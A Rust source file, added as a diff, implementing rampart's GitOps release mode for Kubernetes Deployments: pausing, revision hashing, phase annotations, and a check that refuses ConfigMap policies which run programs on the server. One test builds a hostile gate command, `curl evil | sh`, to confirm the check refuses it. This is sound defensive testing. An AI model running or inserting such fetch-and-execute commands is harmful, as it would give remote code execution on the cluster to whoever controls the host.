@@ -1,0 +1,715 @@
+//! GitOps-triggered releases: Deployments that opt in with `rampart.dev/policy`, kept
+//! paused by rampart so that a pod template Git applies reaches users only through a
+//! release.
+//!
+//! Owns reading the opted-in Deployments (their revision, the policy they point at),
+//! pausing them, and writing the release's phase where GitOps tools look (annotations
+//! on the Deployment). It must not decide when a release starts or ends: that is the
+//! watch loop's (`rampart serve --kubernetes`), and releases run through the same path
+//! as any other. Every write is a server-side apply by its own field manager,
+//! [`GITOPS_MANAGER`], stating all the fields it owns each time: `spec.paused` and the
+//! `rampart.dev/*` status annotations, never a field Git sets.
+
+use std::collections::BTreeMap;
+
+use k8s_openapi::api::apps::v1::Deployment;
+use k8s_openapi::api::core::v1::ConfigMap;
+use kube::api::{Api, ListParams, Patch, PatchParams};
+use rampart_core::Policy;
+use serde_json::{Value, json};
+
+use crate::objects::{self, Readiness};
+use crate::{Error, Kubernetes};
+
+/// The opt-in: `CONFIGMAP` or `CONFIGMAP/KEY` (default key `rampart.yaml`), a ConfigMap
+/// in the Deployment's namespace holding the policy text.
+pub const POLICY: &str = "rampart.dev/policy";
+/// The phase of the release of the Deployment's latest revision (see [`Phase`]).
+pub const PHASE: &str = "rampart.dev/phase";
+/// The id of that release.
+pub const RELEASE: &str = "rampart.dev/release";
+/// In words: what rampart did or waits for.
+pub const MESSAGE: &str = "rampart.dev/message";
+/// The revision (pod template hash) the phase is about.
+pub const REVISION: &str = "rampart.dev/revision";
+/// The revision the running pods are: the last one released (or found at opt-in).
+pub const RELEASED_REVISION: &str = "rampart.dev/released-revision";
+/// The version of [`RELEASED_REVISION`].
+pub const RELEASED_VERSION: &str = "rampart.dev/released-version";
+/// A revision whose release rolled back: not released again until Git changes.
+pub const REFUSED_REVISION: &str = "rampart.dev/refused-revision";
+/// On a canary: the revision of the template it was derived from.
+pub const CANARY_REVISION: &str = "rampart.dev/canary-revision";
+
+/// The field manager of the GitOps fields, apart from `rampart`'s: under server-side
+/// apply a manager's fields left out of its next apply are removed, and the adapter's
+/// applies to the stable name only the image.
+pub const GITOPS_MANAGER: &str = "rampart-gitops";
+
+/// Every annotation [`GITOPS_MANAGER`] owns (all but the user's [`POLICY`]).
+const OWNED: &[&str] = &[
+    PHASE,
+    RELEASE,
+    MESSAGE,
+    REVISION,
+    RELEASED_REVISION,
+    RELEASED_VERSION,
+    REFUSED_REVISION,
+];
+
+/// What `rampart.dev/phase` says. The values are a contract with health checks (the
+/// Argo CD Lua in docs/kubernetes.md).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Phase {
+    /// The running pods are the latest revision: nothing to release.
+    Released,
+    /// A release of the latest revision waits for its turn (another release of the
+    /// service, a freeze, a release window).
+    Waiting,
+    /// A release of the latest revision runs; the message says its step.
+    Progressing,
+    /// The latest revision's release rolled back: the Deployment stays paused on the
+    /// previous pods until Git applies another revision.
+    Refused,
+    /// A human must act: the release halted or escalated, or the opt-in is unusable
+    /// (no ConfigMap, an invalid policy, a policy naming another Deployment).
+    Failed,
+}
+
+impl Phase {
+    /// The annotation's value.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Phase::Released => "released",
+            Phase::Waiting => "waiting",
+            Phase::Progressing => "progressing",
+            Phase::Refused => "refused",
+            Phase::Failed => "failed",
+        }
+    }
+}
+
+/// One opted-in Deployment as the watch loop sees it.
+#[derive(Clone, Debug)]
+pub struct Workload {
+    /// Its namespace.
+    pub namespace: String,
+    /// Its name.
+    pub name: String,
+    /// The revision of its pod template now: what Git last applied.
+    pub revision: String,
+    /// Whether rampart keeps it paused already.
+    pub paused: bool,
+    /// Whether its pods are all the current template (its rollout is complete).
+    pub rolled_out: bool,
+    /// Its `rampart.dev/*` annotations.
+    pub annotations: BTreeMap<String, String>,
+    /// The policy, or why there is none to use.
+    pub policy: Result<WorkloadPolicy, String>,
+}
+
+/// The policy an opted-in Deployment points at, checked to name it.
+#[derive(Clone, Debug)]
+pub struct WorkloadPolicy {
+    /// The policy text, as the ConfigMap holds it.
+    pub text: String,
+    /// Its service.
+    pub service: String,
+    /// The version of the current revision: the image's tag (read through
+    /// `deploy.kubernetes.image`) and the revision, `TAG+REVISION`, or the revision
+    /// alone when the image does not match the template. Unique per revision, so a
+    /// release of it is found again after a restart.
+    pub version: String,
+}
+
+impl Workload {
+    /// `namespace/name`.
+    pub fn key(&self) -> String {
+        format!("{}/{}", self.namespace, self.name)
+    }
+
+    /// One of its `rampart.dev/*` annotations.
+    pub fn annotation(&self, key: &str) -> Option<&str> {
+        self.annotations.get(key).map(String::as_str)
+    }
+}
+
+/// The revision of a Deployment's pod template: a 64-bit FNV-1a hash of its canonical
+/// JSON (keys sorted), 16 hex digits. The API server defaults a template the same way
+/// each time, so the same manifest gives the same revision.
+pub fn revision(d: &Deployment) -> String {
+    let template = d
+        .spec
+        .as_ref()
+        .map(|s| serde_json::to_value(&s.template).unwrap_or(Value::Null))
+        .unwrap_or(Value::Null);
+    let mut text = String::new();
+    canonical(&template, &mut text);
+    let hash = text.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
+        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
+    });
+    format!("{hash:016x}")
+}
+
+fn canonical(v: &Value, out: &mut String) {
+    match v {
+        Value::Object(m) => {
+            let sorted: BTreeMap<&String, &Value> = m.iter().collect();
+            out.push('{');
+            for (i, (k, v)) in sorted.into_iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                out.push_str(&Value::String(k.clone()).to_string());
+                out.push(':');
+                canonical(v, out);
+            }
+            out.push('}');
+        }
+        Value::Array(items) => {
+            out.push('[');
+            for (i, item) in items.iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                canonical(item, out);
+            }
+            out.push(']');
+        }
+        other => out.push_str(&other.to_string()),
+    }
+}
+
+/// Whether `d` opted in to GitOps-triggered releases.
+pub fn opted_in(d: &Deployment) -> bool {
+    annotations(d).contains_key(POLICY)
+}
+
+fn annotations(d: &Deployment) -> BTreeMap<String, String> {
+    d.metadata.annotations.clone().unwrap_or_default()
+}
+
+/// The body [`GITOPS_MANAGER`] applies to `d`: `spec.paused` and every status
+/// annotation, the live values with `changes` on top (an empty value removes one).
+pub fn gitops_patch(d: &Deployment, paused: bool, changes: &[(&str, &str)]) -> Value {
+    let live = annotations(d);
+    let mut owned: BTreeMap<&str, String> = OWNED
+        .iter()
+        .filter_map(|k| live.get(*k).map(|v| (*k, v.clone())))
+        .collect();
+    for (k, v) in changes {
+        if v.is_empty() {
+            owned.remove(k);
+        } else {
+            owned.insert(k, (*v).to_string());
+        }
+    }
+    json!({
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "metadata": {
+            "name": d.metadata.name,
+            "namespace": d.metadata.namespace,
+            "annotations": owned,
+        },
+        "spec": { "paused": paused },
+    })
+}
+
+/// Where a paused Deployment's running pods stand: the controller saw the latest spec
+/// and every replica it wants is available. Its new template has no pods yet (it is
+/// paused), so `updatedReplicas` says nothing here.
+pub fn serving(d: &Deployment) -> Readiness {
+    let generation = d.metadata.generation.unwrap_or(0);
+    let status = d.status.clone().unwrap_or_default();
+    let observed = status.observed_generation.unwrap_or(0);
+    if observed < generation {
+        return Readiness::Waiting(format!(
+            "the Deployment controller has not observed generation {generation} yet (at {observed})"
+        ));
+    }
+    let want = objects::replicas(d);
+    let available = status.available_replicas.unwrap_or(0);
+    if available < want {
+        return Readiness::Waiting(format!("{available} of {want} replicas available"));
+    }
+    Readiness::Ready
+}
+
+fn patch_params() -> PatchParams {
+    PatchParams::apply(GITOPS_MANAGER).force()
+}
+
+/// Makes a canary body (from [`objects::canary`]) run the stable's own template, as
+/// Git applied it: the container keeps its image rather than the policy's
+/// `{version}`, and the canary records the revision it was derived from, which the
+/// promotion checks is still the stable's.
+pub fn canary_of_revision(
+    body: &mut Value,
+    stable: &Deployment,
+    container: &str,
+) -> Result<(), Error> {
+    let image = objects::container_image(stable, container)?;
+    if let Some(c) = body["spec"]["template"]["spec"]["containers"]
+        .as_array_mut()
+        .and_then(|cs| cs.iter_mut().find(|c| c["name"] == container))
+    {
+        c["image"] = json!(image);
+    }
+    body["metadata"]["annotations"][CANARY_REVISION] = json!(revision(stable));
+    Ok(())
+}
+
+// === impl Kubernetes (GitOps mode of a release) ===
+
+impl Kubernetes {
+    /// Applies the GitOps fields to the Deployment `name` as just read.
+    pub(crate) async fn apply_gitops(
+        &self,
+        live: &Deployment,
+        paused: bool,
+        changes: &[(&str, &str)],
+    ) -> Result<Deployment, Error> {
+        let name = live.metadata.name.clone().unwrap_or_default();
+        let body = gitops_patch(live, paused, changes);
+        self.deployments()
+            .patch(&name, &patch_params(), &Patch::Apply(&body))
+            .await
+            .map_err(|source| Error::api(format!("pausing Deployment `{name}`"), source))
+    }
+
+    /// GitOps promotion of the stable: it was paused on the previous pods with Git's
+    /// template; it is unpaused so the Deployment controller rolls that template out,
+    /// then paused again with the revision recorded as released. The canary's
+    /// revision must still be the stable's: a newer one Git applied meanwhile was not
+    /// analysed, and is never rolled out by this promotion.
+    pub(crate) async fn promote_gitops(
+        &self,
+        canary: &Deployment,
+        version: &str,
+    ) -> Result<Deployment, Error> {
+        let stable = self.stable().await?;
+        let now = revision(&stable);
+        let derived = canary
+            .metadata
+            .annotations
+            .as_ref()
+            .and_then(|a| a.get(CANARY_REVISION))
+            .cloned()
+            .unwrap_or_default();
+        if derived != now {
+            return Err(Error::Shape(format!(
+                "Deployment `{}` has revision {now} now, not {derived} as the canary analysed: Git applied another template mid-release, so it is not rolled out",
+                self.deploy.deployment
+            )));
+        }
+        self.apply_gitops(&stable, false, &[]).await?;
+        let rolled = self
+            .wait_ready(&self.deploy.deployment, self.deploy.ready_timeout)
+            .await?;
+        self.apply_gitops(
+            &rolled,
+            true,
+            &[(RELEASED_REVISION, &now), (RELEASED_VERSION, version)],
+        )
+        .await
+    }
+}
+
+// === the watch loop's view of the cluster ===
+
+/// The opted-in Deployments of some namespaces, read and written for the watch loop.
+///
+/// Guarantees: it reads with `list` and `get` only, and writes only
+/// [`GITOPS_MANAGER`]'s fields. Assumptions: the policy of a Deployment names it
+/// (`deploy.kubernetes.deployment` and `namespace`); one that does not is reported
+/// [`Phase::Failed`] and never released.
+#[derive(Clone)]
+pub struct Watched {
+    client: kube::Client,
+    namespaces: Vec<String>,
+}
+
+impl std::fmt::Debug for Watched {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Watched")
+            .field("namespaces", &self.namespaces)
+            .finish_non_exhaustive()
+    }
+}
+
+impl Watched {
+    /// The opted-in Deployments of `namespaces` (the client's default namespace when
+    /// empty).
+    pub fn new(client: kube::Client, namespaces: Vec<String>) -> Watched {
+        let namespaces = if namespaces.is_empty() {
+            vec![client.default_namespace().to_string()]
+        } else {
+            namespaces
+        };
+        Watched { client, namespaces }
+    }
+
+    /// Connects as `rampart run` does (kubeconfig, then the service account).
+    pub async fn connect(namespaces: Vec<String>) -> Result<Watched, Error> {
+        let config = kube::Config::infer()
+            .await
+            .map_err(|e| Error::Config(e.to_string()))?;
+        let client = kube::Client::try_from(config).map_err(|e| Error::Config(e.to_string()))?;
+        Ok(Watched::new(client, namespaces))
+    }
+
+    /// The client, for the releases the loop starts.
+    pub fn client(&self) -> kube::Client {
+        self.client.clone()
+    }
+
+    /// The namespaces watched.
+    pub fn namespaces(&self) -> &[String] {
+        &self.namespaces
+    }
+
+    fn deployments(&self, ns: &str) -> Api<Deployment> {
+        Api::namespaced(self.client.clone(), ns)
+    }
+
+    /// Every opted-in Deployment, with its revision and policy.
+    pub async fn workloads(&self) -> Result<Vec<Workload>, Error> {
+        let mut out = Vec::new();
+        for ns in &self.namespaces {
+            let list = self
+                .deployments(ns)
+                .list(&ListParams::default())
+                .await
+                .map_err(|source| Error::api(format!("listing Deployments in `{ns}`"), source))?;
+            for d in list.items.iter().filter(|d| opted_in(d)) {
+                out.push(self.workload(ns, d).await?);
+            }
+        }
+        Ok(out)
+    }
+
+    /// Lets go of every Deployment that no longer opts in (its `rampart.dev/policy`
+    /// removed, in Git or by hand) but that rampart still holds: it is unpaused, so
+    /// the Deployment controller rolls out its template as it would without rampart,
+    /// and rampart's annotations are removed. Returns them as `namespace/name`.
+    pub async fn let_go(&self) -> Result<Vec<String>, Error> {
+        let mut out = Vec::new();
+        for ns in &self.namespaces {
+            let list = self
+                .deployments(ns)
+                .list(&ListParams::default())
+                .await
+                .map_err(|source| Error::api(format!("listing Deployments in `{ns}`"), source))?;
+            for d in list.items.iter().filter(|d| !opted_in(d)) {
+                if !annotations(d).contains_key(RELEASED_REVISION) {
+                    continue;
+                }
+                let clear: Vec<(&str, &str)> = OWNED.iter().map(|k| (*k, "")).collect();
+                self.apply(d, false, &clear).await?;
+                out.push(format!("{ns}/{}", d.metadata.name.as_deref().unwrap_or("")));
+            }
+        }
+        Ok(out)
+    }
+
+    async fn workload(&self, ns: &str, d: &Deployment) -> Result<Workload, Error> {
+        let name = d.metadata.name.clone().unwrap_or_default();
+        let annotations: BTreeMap<String, String> = annotations(d)
+            .into_iter()
+            .filter(|(k, _)| k.starts_with("rampart.dev/"))
+            .collect();
+        let revision = revision(d);
+        let reference = annotations.get(POLICY).cloned().unwrap_or_default();
+        // One unreadable policy (a missing ConfigMap, no `get` on it) is that
+        // Deployment's problem, reported on it, not every other's.
+        let policy = match self.policy_text(ns, &reference).await {
+            Ok(Ok(text)) => check_policy(&text, ns, &name, d, &revision),
+            Ok(Err(why)) => Err(why),
+            Err(e) => Err(e.to_string()),
+        };
+        Ok(Workload {
+            namespace: ns.to_string(),
+            paused: d.spec.as_ref().and_then(|s| s.paused) == Some(true),
+            rolled_out: matches!(objects::readiness(d), Readiness::Ready),
+            name,
+            revision,
+            annotations,
+            policy,
+        })
+    }
+
+    /// The policy text `reference` (`CONFIGMAP` or `CONFIGMAP/KEY`) names, or why
+    /// there is none.
+    async fn policy_text(
+        &self,
+        ns: &str,
+        reference: &str,
+    ) -> Result<Result<String, String>, Error> {
+        let (map, key) = reference
+            .split_once('/')
+            .unwrap_or((reference, "rampart.yaml"));
+        if map.is_empty() {
+            return Ok(Err(format!(
+                "`{POLICY}` is empty: name a ConfigMap holding the policy (`NAME` or `NAME/KEY`)"
+            )));
+        }
+        let maps: Api<ConfigMap> = Api::namespaced(self.client.clone(), ns);
+        let found = maps
+            .get_opt(map)
+            .await
+            .map_err(|source| Error::api(format!("reading ConfigMap `{map}`"), source))?;
+        Ok(
+            match found.and_then(|m| m.data).map(|d| d.get(key).cloned()) {
+                Some(Some(text)) => Ok(text),
+                Some(None) => Err(format!("ConfigMap `{map}` has no key `{key}`")),
+                None => Err(format!("ConfigMap `{map}` not found in namespace `{ns}`")),
+            },
+        )
+    }
+
+    /// Pauses `w` (it keeps its running pods) and records, when none is yet, its
+    /// current revision as released: what runs when a Deployment opts in is taken as
+    /// released, and only later templates go through releases.
+    pub async fn adopt(&self, w: &Workload) -> Result<(), Error> {
+        let d = self.get(w).await?;
+        let mut changes = Vec::new();
+        let version = w
+            .policy
+            .as_ref()
+            .map(|p| p.version.clone())
+            .unwrap_or_else(|_| w.revision.clone());
+        if w.annotation(RELEASED_REVISION).is_none() {
+            changes.push((RELEASED_REVISION, w.revision.as_str()));
+            changes.push((RELEASED_VERSION, version.as_str()));
+            changes.push((PHASE, Phase::Released.as_str()));
+            changes.push((REVISION, w.revision.as_str()));
+            changes.push((MESSAGE, "adopted: the running pods are released; rampart keeps the Deployment paused and releases each template Git applies"));
+        }
+        self.apply(&d, true, &changes).await
+    }
+
+    /// Writes the phase of `w`'s latest revision (and `extra` annotations). `paused`
+    /// stays as it is: a promotion unpauses the Deployment while its release runs, and
+    /// a report must not stop that rollout half-way.
+    pub async fn report(
+        &self,
+        w: &Workload,
+        phase: Phase,
+        release: &str,
+        message: &str,
+        extra: &[(&str, &str)],
+    ) -> Result<(), Error> {
+        let mut changes = vec![
+            (PHASE, phase.as_str()),
+            (RELEASE, release),
+            (MESSAGE, message),
+            (REVISION, w.revision.as_str()),
+        ];
+        changes.extend_from_slice(extra);
+        let unchanged = changes
+            .iter()
+            .all(|(k, v)| w.annotation(k).unwrap_or("") == *v);
+        if unchanged {
+            return Ok(());
+        }
+        let d = self.get(w).await?;
+        let paused = d.spec.as_ref().and_then(|s| s.paused) == Some(true);
+        self.apply(&d, paused, &changes).await
+    }
+
+    async fn get(&self, w: &Workload) -> Result<Deployment, Error> {
+        self.deployments(&w.namespace)
+            .get_opt(&w.name)
+            .await
+            .map_err(|source| Error::api(format!("reading Deployment `{}`", w.name), source))?
+            .ok_or_else(|| Error::NotFound {
+                kind: "Deployment",
+                name: w.name.clone(),
+                namespace: w.namespace.clone(),
+            })
+    }
+
+    async fn apply(
+        &self,
+        d: &Deployment,
+        paused: bool,
+        changes: &[(&str, &str)],
+    ) -> Result<(), Error> {
+        let name = d.metadata.name.clone().unwrap_or_default();
+        let ns = d.metadata.namespace.clone().unwrap_or_default();
+        let body = gitops_patch(d, paused, changes);
+        self.deployments(&ns)
+            .patch(&name, &patch_params(), &Patch::Apply(&body))
+            .await
+            .map_err(|source| {
+                Error::api(format!("writing the phase to Deployment `{name}`"), source)
+            })?;
+        Ok(())
+    }
+}
+
+/// The policy for `d` (`ns/name`), checked to name it, with the version of `revision`.
+fn check_policy(
+    text: &str,
+    ns: &str,
+    name: &str,
+    d: &Deployment,
+    revision: &str,
+) -> Result<WorkloadPolicy, String> {
+    let policy = Policy::from_yaml(text).map_err(|e| format!("the policy is invalid: {e}"))?;
+    let Some((deploy, _)) = policy.kubernetes() else {
+        return Err("the policy has no `deploy.kubernetes` and `traffic.kubernetes`".into());
+    };
+    if deploy.deployment != name || deploy.namespace != ns {
+        return Err(format!(
+            "the policy releases Deployment `{}/{}`, not `{ns}/{name}`",
+            deploy.namespace, deploy.deployment
+        ));
+    }
+    let runs = runs_on_the_server(&policy);
+    if !runs.is_empty() {
+        return Err(format!(
+            "a policy from a ConfigMap may not run programs on rampart's server or send its environment: {}; release it with `rampart run` or the API (role deployer) instead",
+            runs.join(", ")
+        ));
+    }
+    let image = objects::container_image(d, &deploy.container).map_err(|e| e.to_string())?;
+    let version = match deploy.version_of(&image) {
+        Some(tag) => format!("{tag}+{}", &revision[..revision.len().min(10)]),
+        None => format!("rev-{revision}"),
+    };
+    if let Some(why) = rampart_core::units::version_problem(&version) {
+        return Err(format!("version `{version}`: {why}"));
+    }
+    Ok(WorkloadPolicy {
+        text: text.to_string(),
+        service: policy.service.clone(),
+        version,
+    })
+}
+
+/// What a policy would make rampart's server do beyond Kubernetes and metrics
+/// queries: run a program (a gate, the migrations, a notification or a metric's
+/// command) or read its environment into a request. Anyone who can write a ConfigMap
+/// in a watched namespace writes a GitOps policy, so such a policy must come through
+/// a caller rampart authenticates instead.
+fn runs_on_the_server(policy: &Policy) -> Vec<String> {
+    use rampart_core::policy::{GateCheck, NotifyTarget, QuerySource, Secret};
+    let mut found = Vec::new();
+    for (i, g) in policy.gates.pre.iter().enumerate() {
+        match &g.check {
+            GateCheck::Command { .. } => found.push(format!("gates.pre[{i}] runs a command")),
+            GateCheck::Env(_) => found.push(format!("gates.pre[{i}] reads the environment")),
+            GateCheck::Http { .. } => {}
+        }
+    }
+    if policy.migrations.is_some() {
+        found.push("migrations runs a command".to_string());
+    }
+    for (i, hook) in policy.notify.iter().enumerate() {
+        match &hook.target {
+            NotifyTarget::Command(_) => found.push(format!("notify[{i}] runs a command")),
+            NotifyTarget::Webhook {
+                secret: Some(Secret::Env(_)),
+                ..
+            }
+            | NotifyTarget::Slack {
+                url: Secret::Env(_),
+                ..
+            } => found.push(format!("notify[{i}] reads the environment")),
+            _ => {}
+        }
+    }
+    for (i, m) in policy.analysis.metrics.iter().enumerate() {
+        match m.query.as_ref().map(|q| &q.source) {
+            Some(QuerySource::Command(_)) => {
+                found.push(format!("analysis.metrics[{i}] runs a command"));
+            }
+            Some(QuerySource::Http(h)) if !h.env_vars().is_empty() => {
+                found.push(format!("analysis.metrics[{i}] sends the environment"));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Review: the policy of a GitOps release comes from a ConfigMap anyone with
+    /// write access to the namespace can edit, and was run with a deployer's rights:
+    /// a gate could run any program inside rampart's pod.
+    #[test]
+    fn a_configmap_policy_that_runs_programs_on_the_server_is_refused() {
+        let base = include_str!("../../../examples/kubernetes.yaml");
+        let plain = Policy::from_yaml(base).unwrap();
+        assert!(runs_on_the_server(&plain).is_empty());
+        let gate =
+            base.to_string() + "gates: {pre: [{name: own, command: [sh, -c, 'curl evil | sh']}]}\n";
+        let p = Policy::from_yaml(&gate).unwrap();
+        assert_eq!(runs_on_the_server(&p), ["gates.pre[0] runs a command"]);
+        let hook = base.to_string() + "notify: [{command: [sh, -c, id], on: [done]}]\n";
+        let p = Policy::from_yaml(&hook).unwrap();
+        assert_eq!(runs_on_the_server(&p), ["notify[0] runs a command"]);
+    }
+
+    fn deployment(template: Value, annotations: Value) -> Deployment {
+        serde_json::from_value(json!({
+            "metadata": {"name": "checkout", "namespace": "shop", "annotations": annotations},
+            "spec": {"selector": {"matchLabels": {"app": "checkout"}}, "template": template},
+        }))
+        .unwrap_or_default()
+    }
+
+    #[test]
+    fn a_revision_is_the_template_whatever_the_order_of_its_keys() {
+        let a = deployment(
+            json!({"metadata": {"labels": {"a": "1", "b": "2"}},
+                   "spec": {"containers": [{"name": "app", "image": "x:1"}]}}),
+            json!({}),
+        );
+        let b = deployment(
+            json!({"spec": {"containers": [{"image": "x:1", "name": "app"}]},
+                   "metadata": {"labels": {"b": "2", "a": "1"}}}),
+            json!({"rampart.dev/phase": "released"}),
+        );
+        let c = deployment(
+            json!({"metadata": {"labels": {"a": "1", "b": "2"}},
+                   "spec": {"containers": [{"name": "app", "image": "x:2"}]}}),
+            json!({}),
+        );
+        assert_eq!(revision(&a), revision(&b));
+        assert_ne!(revision(&a), revision(&c));
+        assert_eq!(revision(&a).len(), 16);
+    }
+
+    #[test]
+    fn the_gitops_patch_states_every_owned_field_and_never_the_opt_in() {
+        let d = deployment(
+            json!({}),
+            json!({"rampart.dev/policy": "checkout-policy", "rampart.dev/phase": "waiting",
+                   "rampart.dev/released-revision": "r1", "other": "x"}),
+        );
+        let body = gitops_patch(&d, true, &[(PHASE, "progressing"), (RELEASED_REVISION, "")]);
+        assert_eq!(body["spec"], json!({"paused": true}));
+        // Git's annotations (the opt-in among them) are not rampart's to state.
+        assert_eq!(
+            body["metadata"]["annotations"],
+            json!({"rampart.dev/phase": "progressing"})
+        );
+    }
+
+    #[test]
+    fn a_paused_deployment_serves_from_its_running_pods() {
+        let mut d = deployment(json!({}), json!({}));
+        d.metadata.generation = Some(2);
+        d.status = serde_json::from_value(json!({"observedGeneration": 2, "replicas": 1,
+            "updatedReplicas": 0, "availableReplicas": 1}))
+        .ok();
+        assert_eq!(serving(&d), Readiness::Ready);
+        assert!(matches!(objects::readiness(&d), Readiness::Waiting(_)));
+    }
+}
